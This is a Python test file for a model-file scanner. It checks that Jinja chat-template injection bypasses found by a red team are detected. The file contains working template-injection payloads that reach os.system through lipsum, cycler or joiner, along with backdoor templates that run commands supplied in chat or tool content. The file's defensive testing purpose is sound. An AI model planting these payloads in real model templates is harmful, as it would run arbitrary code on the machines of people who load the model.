"""Red team round 6 on the chat-template analysis (issue 11, class 5): 8 bypasses in 3 classes, closed as classes.

1. Render data used to BUILD strings: anything derived from data counted as data, so the data's own Python text
   (``messages.append|string``, ``messages|string|urlencode``) was an alphabet for any key. Data now means
   only what is SELECTED out of render data; every transforming filter, slice, method attribute, ``~ + * %``
   mixing gives a value that is no proven key.
2. Extra ``*_token`` entries of tokenizer_config.json (``image_token``) were free render data. Every name the
   config passes is now unknown as a key, and token values holding ``%``, ``&#``, braces or case-folded
   dunders are findings.
3. Chat-content backdoors: a data key was accepted whatever object it was read from (``lipsum[m.content]``).
   A data key now selects only out of render data or a container the template built.

Each PoC is the red team's (canary path shortened); variants per class check the class, not the PoC. The PoCs
that fire under a real render are also adversarial entries (tests/adversarial/generate.py, TEMPLATE_ROUND6_*).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from weightwarden.scan.engine import scan_paths
from weightwarden.scan.templates import BUILT_NAME, COMPUTED_ATTR, DUNDER, ESCAPE_ROOT, analyze_template

FOUND = {COMPUTED_ATTR, BUILT_NAME, DUNDER, ESCAPE_ROOT}
FMT = "format(95,95,103,108,111,98,97,108,115,95,95)"
SYS = "['os'].system('touch canary')"


def _found(source: str, config_names: tuple[str, ...] = ()) -> None:
    kinds = {issue.kind for issue in analyze_template(source, config_names)}
    assert kinds & FOUND, source


def _clean(source: str) -> None:
    assert analyze_template(source) == [], source


POCS = {
    "a1": "{%- set b = messages.append|string -%}{%- set u = b|urlencode -%}"
          "{%- set pc = u[11:14]|replace(u[12:14], b[36:37]) -%}"
          "{%- set f = b[0:0]|center(11)|replace(b[9:10], pc) -%}"
          "{%- set k = f|" + FMT + " -%}{{- lipsum[k]" + SYS + " -}}",
    "a2": "{%- for m in messages -%}{{ m.role ~ ': ' ~ m.content ~ '\\n' }}{%- endfor -%}"
          "{%- set s = messages|string -%}{%- set u = s|urlencode|lower -%}"
          "{%- set pc = u[32:35]|replace(u[33:34], u[0:0]) -%}"
          "{%- set k = s[0:0]|center(11)|replace(s[9:10], pc)|" + FMT + " -%}{{- lipsum[k]" + SYS + " -}}",
    "a3": "{%- for m in messages -%}{{ m.content }}{%- endfor -%}"
          "{%- set ns = namespace(b=(messages|first|default({})).items|string) -%}"
          "{%- set u = ns.b|urlencode -%}{%- set pc = u[11:14]|replace(u[12:14], ns.b[28:29]) -%}"
          "{%- set f = ns.b[0:0]|center(11)|replace(ns.b[9:10], pc) -%}"
          "{{- ((lipsum|attr(f|" + FMT + ")).os).system('touch canary') -}}",
    "b1": "{%- for m in messages -%}{{ bos_token ~ m.content }}{%- endfor -%}"
          "{%- set k = image_token|format(95,95,95,95) -%}{{- lipsum[k]" + SYS + " -}}",
    "c1": "{%- for m in messages -%}{%- if m.content.startswith('!!') -%}{%- set p = m.content[2:].split('|') -%}"
          "{%- set _ = lipsum[p[0]][p[1]].system(p[2]) -%}{%- endif -%}"
          "{{- '<|' ~ m.role ~ '|>' ~ m.content ~ '\\n' -}}{%- endfor -%}",
    "c2": "{%- for t in tools|default([]) -%}{%- set f = t.function -%}"
          "{%- set _ = joiner[f.name][f.description]['os'].system(f.parameters) -%}{%- endfor -%}"
          "{%- for m in messages -%}{{ m.role ~ ': ' ~ m.content ~ '\\n' }}{%- endfor -%}",
}


@pytest.mark.parametrize("name", sorted(POCS))
def test_poc_is_found(name: str) -> None:
    _found(POCS[name])


def test_pocs_render_as_the_report_says() -> None:
    """The a1 PoC really spells '__globals__' under a plain render (so the test guards a live bypass)."""
    import jinja2

    probe = POCS["a1"].replace("{{- lipsum[k]" + SYS + " -}}", "{{ k }}")
    assert jinja2.Environment().from_string(probe).render(messages=[]) == "__globals__"


# -- class 1: data is selection only ------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "{{ lipsum[messages|tojson] }}",
    "{{ lipsum[messages[0].content|trim] }}",
    "{{ lipsum[messages[0].content|lower] }}",
    "{{ lipsum[messages[0].content|replace('a', 'b')] }}",
    "{{ lipsum[messages[0].content|center(11)] }}",
    "{{ lipsum[messages[0].content|format(95)] }}",
    "{{ lipsum[messages[0].content|striptags] }}",
    "{{ lipsum[messages[0].content|urlencode] }}",
    "{{ lipsum[messages[0].content|indent] }}",
    "{{ lipsum[messages[0].content|wordwrap(5)] }}",
    "{{ lipsum[messages[0].content|truncate(5)] }}",
    "{{ lipsum[messages|join] }}",
    "{{ lipsum[messages|map('lower')|first] }}",
    "{{ lipsum[messages[0].content[2:]] }}",
    "{{ lipsum[messages[0].content ~ 'x'] }}",
    "{{ lipsum[messages[0].content + 'x'] }}",
    "{{ lipsum[messages[0].content * 2] }}",
    "{{ lipsum[messages[0].content % 2] }}",
    "{{ lipsum[messages[0].content.strip()] }}",
    "{{ lipsum[messages[0].content.replace('a', 'b')] }}",
    "{{ lipsum[messages[0].content.format(1)] }}",
    "{{ lipsum[messages.append|string] }}",
    "{{ lipsum[messages.append] }}",
    "{{ lipsum[messages[0]['items']] }}",
    "{{ lipsum[messages[0].items|string] }}",
    "{% set x = messages[0].content %}{% set x = x[1:] %}{{ lipsum[x] }}",
    # keys used on render data itself: still no proven key when synthesised
    "{{ messages[messages|string|urlencode] }}",
    "{{ tools[(messages.append|string)[0:11]] }}",
])
def test_class1_values_built_from_data_are_no_keys(source: str) -> None:
    _found(source)


def test_class1_selection_stays_data() -> None:
    _clean("{% for m in messages[::-1] %}{{ tools[m.role] }}{% endfor %}")  # MiniCPM5: elements of a slice
    _clean("{% for t in tools %}{% for k, v in t.function.parameters.properties|items %}"
           "{{ t.function.parameters.properties[k] }}{% endfor %}{% endfor %}")
    _clean("{{ (messages|first)[messages[0].role] }}{{ (messages|selectattr('role')|list|last)[messages[0].role] }}")
    _clean("{% for m in messages %}{{ d[m.content.split('.')[0]] }}{% endfor %}")  # muse-glimmer
    # Cohere's tool template passes json_spec.items (the dict's method) on and reads .type of it: Undefined.
    _clean("{% macro f(s) %}{{ {'string': 'str'}[s.type] }}{{ f(s.items) }}{% endmacro %}"
           "{% for t in tools %}{{ f(t) }}{% endfor %}")


# -- class 2: names the config passes are never data --------------------------------------------------------

@pytest.mark.parametrize("source", [
    "{{ lipsum[image_token] }}",
    "{{ lipsum[boi_token|format(95)] }}",
    "{{ lipsum[extra_tokens|first] }}",
    "{{ lipsum|attr(audio_token) }}",
    "{% set k = image_token|lower %}{{ cycler[k] }}",
])
def test_class2_token_names_are_unknown(source: str) -> None:
    _found(source)


def test_class2_config_names_passed_in_are_unknown() -> None:
    source = "{{ lipsum[vision_marker] }}"
    assert analyze_template(source, ("vision_marker",))
    _found("{{ messages[vision_marker] }}", ("vision_marker",))


def _scan_config(tmp_path: Path, config: dict) -> set[str]:
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(config), encoding="utf-8")
    return {f.rule_id for f in scan_paths([str(tmp_path)], workers=1).findings}


@pytest.mark.parametrize(("value", "rule"), [
    ("%c%cglobals%c%c", "WW-TPL-010"),
    ("&#95;&#95;globals&#95;&#95;", "WW-TPL-010"),
    ("&lowbar;&lowbar;globals&lowbar;&lowbar;", "WW-TPL-010"),
    ("{0.__class__}", "WW-TPL-001"),
    ("{}", "WW-TPL-010"),
    ("__GLOBALS__", "WW-TPL-001"),
    ("F_Globals", "WW-TPL-001"),
])
def test_class2_implausible_token_values(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str,
                                         rule: str) -> None:
    monkeypatch.chdir(tmp_path)
    config = {"chat_template": "{{ bos_token }}{% for m in messages %}{{ m.content }}{% endfor %}",
              "bos_token": "<s>", "image_token": value}
    assert rule in _scan_config(tmp_path, config)
    config["image_token"] = "<|image|>"
    assert not _scan_config(tmp_path, config)


def test_class2_poc_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    config = {"chat_template": POCS["b1"], "bos_token": "<s>", "eos_token": "</s>", "image_token": "%c%cglobals%c%c"}
    assert {"WW-TPL-002", "WW-TPL-010"} <= _scan_config(tmp_path, config)


# -- class 3: a data key selects only out of data or a container the template built -------------------------

@pytest.mark.parametrize("source", [
    "{{ lipsum|attr(messages[0].content) }}",
    "{% set ns = namespace(k='') %}{% for m in messages %}{% set ns.k = m.content %}{% endfor %}{{ cycler|attr(ns.k) }}",
    "{% macro m(a) %}{{ joiner[a] }}{% endmacro %}{{ m(messages[0].content) }}",
    "{% for t in tools %}{{ namespace[t.function.name] }}{% endfor %}",
    "{{ ([lipsum]|map(attribute=messages[0].content)|first)['os'] }}",
    "{{ range[messages[0].content] }}",
    "{{ dict[messages[0].content] }}",
    "{% for m in messages %}{{ loop[m.content] }}{% endfor %}",
    "{% macro f() %}{% endmacro %}{{ f[messages[0].content] }}",
    "{% macro f() %}{{ caller[messages[0].content] }}{% endmacro %}{% call f() %}x{% endcall %}",
    "{{ (messages|string)[messages[0].content] }}",
    "{{ 'abc'[messages[0].content] }}",
    "{{ (1)[messages[0].content] }}",
    "{{ messages.append[messages[0].content] }}",
    "{{ [lipsum]|selectattr(messages[0].content)|list }}",
    "{{ [lipsum]|rejectattr(messages[0].content)|list }}",
    "{{ [lipsum]|sort(attribute=messages[0].content) }}",
    "{{ [lipsum]|groupby(messages[0].content) }}",
    "{{ [lipsum]|sum(attribute=messages[0].content) }}",
    "{{ [lipsum]|join(',', messages[0].content) }}",
    "{{ messages[0].content.format(lipsum) }}",
    "{{ messages[0].content.format(cycler=cycler) }}",
    "{{ messages[0].content.format([1]) }}",
    "{% set g = lipsum %}{% for m in messages %}{{ g[m.role][m.content] }}{% endfor %}",
])
def test_class3_data_keys_on_non_data_objects(source: str) -> None:
    _found(source)


def test_class3_data_keys_on_data_and_built_containers_stay_clean() -> None:
    _clean("{% for m in messages %}{{ {'user': 'U', 'assistant': 'A'}[m.role] }}{% endfor %}")
    _clean("{% set ns = namespace(i=0) %}{% for m in messages %}{% set ns.i = ns.i + 1 %}{{ messages[ns.i] }}"
           "{% endfor %}")
    _clean("{{ messages[0]['content'] }}")
    # Round 8: a data-valued attribute= is a dotted path (one chat-chosen hop per '.'): a finding outright.
    assert analyze_template("{{ messages|map(attribute=messages[0].role)|list }}")
    # Red team round 20 inverted this one: a format string from the data reads attributes of its arguments by
    # names chat content chooses, and a "data" argument may be an Undefined (a missing field) or a generator, not
    # JSON ('{0.__class__.__init__.__globals__}'): any str.format whose format string is not a constant is found.
    assert analyze_template("{{ messages[0].content.format(messages[0].role) }}")


def test_pending_alone_is_not_data() -> None:
    _found("{% set ns = namespace() %}{% set ns.k = ns.k|lower %}{{ lipsum[ns.k] }}")
    _found("{% set ns = namespace() %}{% set ns.k = ns.k.x %}{{ lipsum[ns.k] }}")
    _found("{% set ns = namespace() %}{% set ns.k = ns.k[0] %}{{ lipsum|attr(ns.k) }}")
    # A self-loop that starts from render data settles as data.
    _clean("{% set c = messages[0].content %}{% set c = c.split('x')[-1] %}{{ tools[c] }}")


def test_real_shapes_settle_without_bounds() -> None:
    """Round 6's strict data test made inner fixpoints restart each round (DeepSeek/Gemma templates hit
    MAX_ROUNDS / MAX_STEPS); rounds are joined and warm-started now."""
    _clean("{% set content = message['content'] %}{% set content = content.split('x')[-1] %}{{ content|trim }}")


def test_class3_calling_what_data_keys_reached_on_data() -> None:
    """Data keys on data stay allowed (tool schemas need them), but Jinja's getattr fallback lets them walk
    from a string to ``object.__subclasses__`` ('__class__|__base__|__subclasses__' in a user message, found
    while fixing this round): calling a name that may hold such a value is a finding."""
    _found("{% for m in messages %}{% set p = m.content.split('|') %}{% set f = m.content[p[0]][p[1]][p[2]] %}"
           "{{ f()|length }}{% endfor %}")
    _found("{% set f = messages[0][messages[0].role] %}{{ f() }}")
    _clean("{% macro f(x) %}{{ x }}{% endmacro %}{% for m in messages %}{{ f(m.content) }}{% endfor %}")
